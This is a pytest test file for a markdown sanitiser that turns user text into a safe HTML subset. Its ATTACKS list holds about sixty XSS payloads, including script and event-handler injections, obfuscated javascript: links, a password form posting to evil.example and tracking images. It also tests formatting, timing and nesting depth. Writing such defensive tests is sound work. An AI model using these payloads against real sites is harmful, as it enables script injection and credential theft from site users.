import re
import time
from concurrent.futures import ThreadPoolExecutor

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from evidence.web.markdown import ELEMENTS, excerpt, to_html, to_plain

REL = 'rel="noopener nofollow"'

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](\\\\evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<java&#115;cript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/count.png)",
    "![x][1]\n\n[1]: https://evil.example/count.png",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x](https://a.example \"' onmouseover=alert(1) '\")",
    '<https://a.example/"onmouseover=alert(1)>',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[**<script>**](https://a.example/<script>)",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "1. <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "*<script>*alert(1)*</script>*",
    "{: onclick=alert(1) }\n\n# x {: #id onclick=alert(1) }",
]


def assert_safe(made: str) -> None:
    """Only the elements, attributes and addresses on the short list, as a browser reads them."""
    tree = html5lib.parseFragment(made, namespaceHTMLElements=False)
    for element in tree.iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in ELEMENTS, element.tag
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(element.tag, set())
        assert set(element.attrib) <= allowed, element.attrib
        if element.tag == "a":
            assert re.match("(?i)(https?|mailto):", element.attrib["href"])
            assert element.attrib["rel"] == "noopener nofollow"
        if element.tag == "ol":
            assert element.attrib.get("start", "1").isdigit()


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_nothing_but_listed_elements(attack: str) -> None:
    assert_safe(to_html(attack))
    assert_safe(to_html(f"Words before.\n\n{attack}\n\n- {attack}\n\n> {attack} after"))


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "<b>not bold</b>", "![x](https://a.example/b.png)", "`code`", "BP < 120 & up"]
)
def test_what_is_switched_off_stays_as_it_was_typed(text: str) -> None:
    assert to_plain(text) == text


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("", ""),
        ("   \n ", ""),
        ("Hello", "<p>Hello</p>"),
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>"),
        ("**bold** and *slanted*", "<p><strong>bold</strong> and <em>slanted</em></p>"),
        ("* a\n* b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("    four spaces", "<p>four spaces</p>"),
        ("Zoë & Łukasz", "<p>Zoë &amp; Łukasz</p>"),
        ("[CQC](https://www.cqc.org.uk/)", f'<p><a href="https://www.cqc.org.uk/" {REL}>CQC</a></p>'),
        ("[write](mailto:a@b.example)", f'<p><a href="mailto:a@b.example" {REL}>write</a></p>'),
        ("[a *b*](HTTP://a.example)", f'<p><a href="HTTP://a.example" {REL}>a <em>b</em></a></p>'),
        ("[a](https://a.example/b_(c)?d=1&e=2)", f'<p><a href="https://a.example/b_(c)?d=1&amp;e=2" {REL}>a</a></p>'),
        ("<https://a.example/b_c_d>", f'<p><a href="https://a.example/b_c_d" {REL}>https://a.example/b_c_d</a></p>'),
    ],
)
def test_text_becomes_these_elements(text: str, made: str) -> None:
    html = to_html(text)
    assert isinstance(html, Markup)
    assert html == made


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("# A", "<h3>A</h3>"),
        ("A\n===", "<h3>A</h3>"),
        ("## A", "<h4>A</h4>"),
        ("### A", "<h5>A</h5>"),
        ("#### A", "<h6>A</h6>"),
        ("###### A", "<h6>A</h6>"),
        ("<h1>A</h1>", "<p>&lt;h1&gt;A&lt;/h1&gt;</p>"),
        ("> # A", "<blockquote>\n<h3>A</h3>\n</blockquote>"),
    ],
)
def test_headings_leave_the_page_its_one_h1(text: str, made: str) -> None:
    assert to_html(text) == made


def test_plain_text_has_a_line_for_each_block() -> None:
    text = "# What we did\n\nWe *asked* [Łukasz](https://a.example).\nTwice.\n\n- tea & cake\n- a < b\n\n> Thank you"
    assert to_plain(text) == "What we did\nWe asked Łukasz.\nTwice.\ntea & cake\na < b\nThank you"


def test_plain_text_is_not_markup() -> None:
    assert not isinstance(to_plain("<b>a</b>"), Markup)


@pytest.mark.parametrize(
    ("text", "words", "shown"),
    [
        ("", 3, ""),
        ("one two three", 3, "one two three"),
        ("one two three four", 3, "one two three…"),
        ("# One\n\n**two**\n- three", 2, "One two…"),
    ],
)
def test_excerpt_is_the_first_words_on_one_line(text: str, words: int, shown: str) -> None:
    assert excerpt(text, words) == shown


def test_excerpt_of_no_words_is_refused() -> None:
    with pytest.raises(ValueError, match="at least one word"):
        excerpt("one", 0)


@pytest.mark.parametrize(
    "unit", ["[", "![", "[a](", "[a](https://x", "[a](https://x(", "*", "_a", "**a *", ">", "`", "<", "<http://", "&#"]
)
def test_page_of_opening_signs_is_read_in_time(unit: str) -> None:
    started = time.perf_counter()
    to_html(unit * (20_000 // len(unit)))
    assert time.perf_counter() - started < 2


def test_lists_too_deep_to_read_are_shown_as_typed() -> None:
    nested = "\n".join("    " * depth + "- <b>" for depth in range(150))

    def deep_in_a_page(calls: int) -> str:
        return to_html(nested) if calls == 0 else deep_in_a_page(calls - 1)

    made = deep_in_a_page(700)
    assert made.startswith("<p>- &lt;b&gt;")
    assert_safe(made)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=80) | st.text(alphabet="<>[]()*_`#&;:\"'\\/ \n\tajs\x02\x03!-.1=", max_size=80))
def test_any_text_is_safe(text: str) -> None:
    assert_safe(to_html(text))
    excerpt(text, 5)


def test_text_is_read_alike_whatever_was_read_before() -> None:
    tricky = [
        "7. seven\n8. eight",
        "- a\n    - b\n\n        c",
        "> quoted\n\n# Head",
        "**open",
        "[x](https://x.example)",
    ]
    texts = [*tricky, "- " * 2000, *ATTACKS, *reversed(tricky), "plain"]
    with ThreadPoolExecutor(max_workers=1) as one_thread:
        after_others = list(one_thread.map(to_html, texts))
    assert after_others == [_in_a_new_thread(text) for text in texts]


def _in_a_new_thread(text: str) -> Markup:
    with ThreadPoolExecutor(max_workers=1) as thread:
        return thread.submit(to_html, text).result()
